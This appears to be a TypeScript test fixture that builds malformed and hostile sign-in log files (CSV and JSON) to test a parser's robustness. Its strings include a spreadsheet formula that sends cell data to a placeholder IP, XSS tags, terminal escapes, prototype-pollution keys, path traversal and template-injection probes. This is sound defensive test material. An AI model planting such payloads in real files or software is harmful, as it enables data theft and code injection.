import type { FormatId } from '../../src/core/formats/format';
import type { GeneratedSignIn } from './generatedSignIn';
import { signIns } from './generateSignIns';
import { exportVariant } from './writers/exportVariants';
import { betaRecord, type JsonRecord } from './writers/graphRecord';

/** A file made to hurt a reader. */
export interface HostileFile {
  readonly name: string;
  /** What is wrong with it, in a few words. */
  readonly what: string;
  readonly fileName: string;
  readonly formatId: FormatId;
  /** Records that are whole and must be read. */
  readonly whole: number;
  /** Records that are broken and must be reported, not read. */
  readonly broken: number;
  /** The file's bytes; the same on every call. */
  bytes(): Uint8Array;
}

const eventCount = 6;

function events(): readonly GeneratedSignIn[] {
  return [...signIns({ seed: 'hostile', count: eventCount, kinds: ['interactive'] })];
}

/** The header and the rows of a 57-column portal CSV, quoted where needed, without line ends. */
function portalLines(of: readonly GeneratedSignIn[] = events()): string[] {
  const text = [...exportVariant('portal-csv-57').write(of)].join('');
  return text.split('\r\n').filter((line) => line !== '');
}

const joined = (lines: readonly string[]): string => `${lines.join('\r\n')}\r\n`;
const bytesOf = (text: string): Uint8Array => Buffer.from(text, 'utf8');

const graphRecords = (): readonly JsonRecord[] => events().map(betaRecord);
const graphLines = (): string[] => graphRecords().map((record) => JSON.stringify(record));
const graphArray = (records: readonly string[]): string => `[${records.join(',\n')}]`;

function portal(
  name: string,
  what: string,
  whole: number,
  broken: number,
  make: () => string | Uint8Array,
): HostileFile {
  return {
    name,
    what,
    fileName: 'InteractiveSignIns_2026-06-15_2026-06-22.csv',
    formatId: 'portal-csv',
    whole,
    broken,
    bytes: () => {
      const made = make();
      return typeof made === 'string' ? bytesOf(made) : made;
    },
  };
}

function graph(
  name: string,
  what: string,
  whole: number,
  broken: number,
  make: () => string,
): HostileFile {
  return {
    name,
    what,
    fileName: 'signIns.json',
    formatId: 'graph-json',
    whole,
    broken,
    bytes: () => bytesOf(make()),
  };
}

/**
 * User agents that do harm where text is taken for something else: a spreadsheet formula, HTML, a terminal's escape, a
 * right-to-left override, a Markdown link to a command, a template, a regular expression.
 */
export const hostileUserAgents: readonly string[] = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
  '<img src=x onerror=alert(1)><script>alert(2)</script>',
  '\u001b[2J\u001b]8;;http://192.0.2.1\u0007here\u001b]8;;\u0007',
  'safe\u202Eexe.tnega\u202C',
  '[run](command:workbench.action.terminal.new) $(shield) ![x](http://192.0.2.1/p.png)',
  '(a+)+$ \\u0000 ${env:PATH} %s ../../etc/passwd',
];

/**
 * Values that do harm where a document of Markdown is made of them: marks of blocks and of tables, links in every dialect,
 * HTML, entities, escapes that undo an escape, runs of backticks, what looks like the marker of a section.
 */
export const hostileMarkdownValues: readonly string[] = [
  ...hostileUserAgents,
  '# heading\n\n## another\n- [x] done\n> quoted',
  '| a | b |\n| --- | --- |\n| c | d |',
  'a|b\\|c\\\\|d',
  '![image](https://198.51.100.1/p.png) [link](javascript:alert(1)) [ref][1]',
  '[1]: https://198.51.100.1 "title"',
  '<https://198.51.100.1> <a@b.example> https://198.51.100.1/x www.example.com ftp://example.com',
  'mallory@contoso.com @everyone #1 GH-1 :smile: $x^2$ [^1] ==marked== ~~struck~~',
  '**bold** __bold__ *em* _em_ `code` ``two`` ```',
  '``````\n```kql\nSigninLogs\n```',
  '`',
  '\\',
  '\\`',
  '`|`',
  ' ',
  '-',
  '+ a',
  '1. one',
  '12) two',
  '    indented',
  '---',
  '===',
  '&lt;b&gt; &#60;b&#62; &amp;nbsp; &copy;',
  '</td></table><details open><summary>x</summary>',
  '<!-- signins:section a 0 --> <!-- /signins:section a --> <!--/signins:section passwordSpray-1 -->',
  '-->\u0000\u0007\u001b[31mred\u2028line\u2029para\u202Eevil\u2066x\u200Bzero\uFEFF',
  'command:workbench.action.quit?%5B%5D',
  'javascript:alert(document.domain)',
  '%00 {{7*7}} ${7*7} <%= 7 %>',
  'x'.repeat(5000),
  '`'.repeat(300),
  '\u{1F600} Jos\u00E9 \u5C71\u7530 \uD800',
];

function withUserAgents(): readonly GeneratedSignIn[] {
  return events().map((event, k) => ({ ...event, userAgent: hostileUserAgents[k]! }));
}

/** A JSON value nested `depth` arrays deep, as text. */
export function deepArray(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

/** Puts `"key":value` in front of a record's text. */
function withKey(record: string, key: string, value: string): string {
  return `{${JSON.stringify(key)}:${value},${record.slice(1)}`;
}

/** Files made to hurt a reader: each is small but the huge field's, and says how many of its records must survive. */
export const hostileFiles: readonly HostileFile[] = [
  portal('csv-short-row', 'the third record has three fields of 57', 5, 1, () => {
    const lines = portalLines();
    lines[3] = lines[3]!.split(',').slice(0, 3).join(',');
    return joined(lines);
  }),
  portal('csv-long-row', 'the third record has three fields too many', 5, 1, () => {
    const lines = portalLines();
    lines[3] = `${lines[3]!},too,many,fields`;
    return joined(lines);
  }),
  portal('csv-cut-last-line', 'the file ends in the middle of its last record', 5, 1, () => {
    const text = joined(portalLines());
    return text.slice(0, text.length - 600);
  }),
  portal('csv-no-last-newline', 'the last line has no end, and that is no fault', 6, 0, () =>
    portalLines().join('\r\n'),
  ),
  portal('csv-open-quote', 'a quote in the last record is never closed', 5, 1, () => {
    const lines = portalLines();
    const last = lines.at(-1)!.split(',');
    last[0] = `"${last[0]!}`;
    lines[lines.length - 1] = last.join(',');
    return joined(lines);
  }),
  portal('csv-bad-utf8', 'a byte in the first record is no UTF-8', 5, 1, () => {
    const [first, ...rest] = events();
    const text = joined(portalLines([{ ...first!, userAgent: 'agent-\u0001-end' }, ...rest]));
    const bytes = Buffer.from(text, 'utf8');
    bytes[bytes.indexOf('agent-\u0001') + 6] = 0xff;
    return bytes;
  }),
  portal('csv-hostile-text', 'user agents that are formulas, HTML, escapes, links', 6, 0, () =>
    joined(portalLines(withUserAgents())),
  ),
  portal('csv-newlines-in-cells', 'cells hold CRLF, LF and doubled quotes', 6, 0, () =>
    joined([...exportVariant('portal-csv-57').write([])].map((header) => header.trimEnd())).concat(
      [
        ...exportVariant('portal-csv-57').write(
          events().map((event, k) => ({
            ...event,
            userAgent: k % 2 === 0 ? 'first line\r\nsecond "quoted" line' : 'a\nb\n\nc',
          })),
        ),
      ]
        .join('')
        .replace(/^.*?\r\n/, ''),
    ),
  ),
  portal(
    'csv-blank-lines',
    'blank lines between records and at the end',
    6,
    0,
    () => `${portalLines().join('\r\n\r\n')}\r\n\r\n\r\n`,
  ),
  portal('csv-huge-field', 'a user agent of four million characters', 6, 0, () => {
    const [first, ...rest] = events();
    return joined(portalLines([{ ...first!, userAgent: 'x'.repeat(4_000_000) }, ...rest]));
  }),
  portal('csv-prototype-values', 'users called __proto__, constructor, toString', 6, 0, () =>
    joined(
      portalLines(
        events().map((event, k) => ({
          ...event,
          userPrincipalName: ['__proto__', 'constructor', 'toString'][k % 3]!,
        })),
      ),
    ),
  ),
  portal('csv-header-only', 'a header and no record', 0, 0, () => joined(portalLines([]))),
  graph('json-broken-record', 'the third record has a bare word for a value', 5, 1, () => {
    const records = graphLines();
    records[2] = records[2]!.replace('"isInteractive":true', '"isInteractive":maybe');
    return graphArray(records);
  }),
  graph('json-lines-broken', 'the third line of JSON Lines ends too early', 5, 1, () => {
    const records = graphLines();
    records[2] = records[2]!.slice(0, 400);
    return `${records.join('\n')}\n`;
  }),
  graph('json-cut', 'the array ends in the middle of its last record', 5, 1, () => {
    const text = graphArray(graphLines());
    return text.slice(0, text.length - 300);
  }),
  graph('json-prototype-keys', 'keys __proto__ and constructor, outside and nested', 6, 0, () =>
    graphArray(
      graphLines().map((record) =>
        withKey(
          withKey(record, '__proto__', '{"isAdmin":true,"polluted":"yes"}'),
          'constructor',
          '{"prototype":{"polluted":"yes"}}',
        ).replace('"status":{', '"status":{"__proto__":{"errorCode":1},'),
      ),
    ),
  ),
  graph('json-duplicate-keys', 'keys repeated with other values: the last one counts', 6, 0, () =>
    graphArray(
      graphLines().map((record) =>
        withKey(
          withKey(record, 'ipAddress', '"192.0.2.254"'),
          'userPrincipalName',
          '"nobody@contoso.com"',
        ),
      ),
    ),
  ),
  graph('json-deep', 'a value nested 20,000 arrays deep', 6, 0, () =>
    graphArray(
      graphLines().map((record, k) =>
        k === 1 ? withKey(record, 'privateExtension', deepArray(20_000)) : record,
      ),
    ),
  ),
  graph('json-wrong-shapes', 'text where objects belong, as hand-redacted files have', 6, 0, () =>
    JSON.stringify(
      graphRecords().map((record) => ({
        ...record,
        location: '[redacted]',
        deviceDetail: null,
        authenticationDetails: 'none',
        appliedConditionalAccessPolicies: {},
      })),
    ),
  ),
  graph('json-hostile-text', 'user agents that are formulas, HTML, escapes, links', 6, 0, () =>
    JSON.stringify(withUserAgents().map(betaRecord)),
  ),
  graph('json-escapes', 'every character of the users escaped, surrogate pairs too', 6, 0, () => {
    const escaped = (text: string): string =>
      [...Array(text.length).keys()]
        .map((k) => `\\u${text.charCodeAt(k).toString(16).padStart(4, '0')}`)
        .join('');
    return graphArray(
      graphLines().map((record) =>
        record.replace(
          /"userDisplayName":"(?:[^"\\]|\\.)*"/,
          `"userDisplayName":"${escaped('José 😀 "quoted" \\ / 山田')}"`,
        ),
      ),
    );
  }),
  graph('json-empty-array', 'an array without records', 0, 0, () => '[]'),
];

/** A NUL in a cell beyond the first 64 KB, where no glance at the beginning sees it: one of many records holds it. */
export function nulFarInside(): Uint8Array {
  const many = [...signIns({ seed: 'nul', count: 200, kinds: ['interactive'] })];
  const changed = many.map((event, k) => (k === 150 ? { ...event, userAgent: 'a\u0000b' } : event));
  return bytesOf(joined(portalLines(changed)));
}
